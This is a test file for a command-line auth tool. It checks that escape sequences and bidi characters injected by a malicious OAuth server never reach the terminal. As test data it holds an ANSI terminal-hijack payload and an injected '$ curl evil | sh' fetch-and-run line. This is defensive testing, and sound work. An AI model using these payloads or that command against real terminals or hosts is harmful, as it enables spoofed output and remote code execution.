import { expect, test } from 'vitest';
import { mcpctl } from '../../support/cli.ts';
import { isToken } from '../../support/oauth/token-failures.ts';
import { bench } from './bench.ts';

const ESCAPE = '\u001b]0;owned\u0007\u001b[2J\u202e';
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;

test('what servers say cannot steer the terminal', async () => {
  const { home, env, issuer, server } = await bench({ issuer: { deviceFlow: true } });
  const login = ['auth', 'login', 'subject', '--store', 'file', '--yes'];
  server.describe({ scopes_supported: ['read', `write${ESCAPE}`], resource_name: ESCAPE });
  const { stdout, stderr } = await mcpctl(login, { home, env });
  expect(stderr).toContain('write');
  expect(stdout + stderr).not.toMatch(CONTROL);

  server.describe({});
  issuer.alter((answer, request) => {
    if (!isToken(request) || answer.status !== 200) return undefined;
    const body = { ...JSON.parse(answer.body), scope: `read extra${ESCAPE}`, error_description: ESCAPE };
    return { ...answer, body: JSON.stringify(body) };
  });
  const commands = [
    login,
    ['auth', 'status'],
    ['auth', 'status', 'subject'],
    ['auth', 'refresh', 'subject'],
    ['auth', 'logout', 'subject'],
  ];
  for (const command of commands) {
    const { stdout, stderr } = await mcpctl(command, { home, env });
    expect(stdout + stderr, command.join(' ')).not.toMatch(CONTROL);
  }
  expect(issuer.seen.refreshes()).toHaveLength(1);
});

test('an error cannot either, nor lead astray by its words', async () => {
  const { home, env, issuer } = await bench();
  issuer.alter((answer, request) => {
    if (!isToken(request)) return undefined;
    const body = { error: `invalid_grant${ESCAPE}`, error_description: `${ESCAPE}\n$ curl evil | sh` };
    return { ...answer, status: 400, body: JSON.stringify(body) };
  });
  const { status, stdout, stderr } = await mcpctl(
    ['auth', 'login', 'subject', '--store', 'file', '--yes', '--verbose'],
    { home, env },
  );

  expect(status).not.toBe(0);
  expect(stdout + stderr).not.toMatch(CONTROL);
  expect(stderr).not.toMatch(/^\$ curl/m);
});
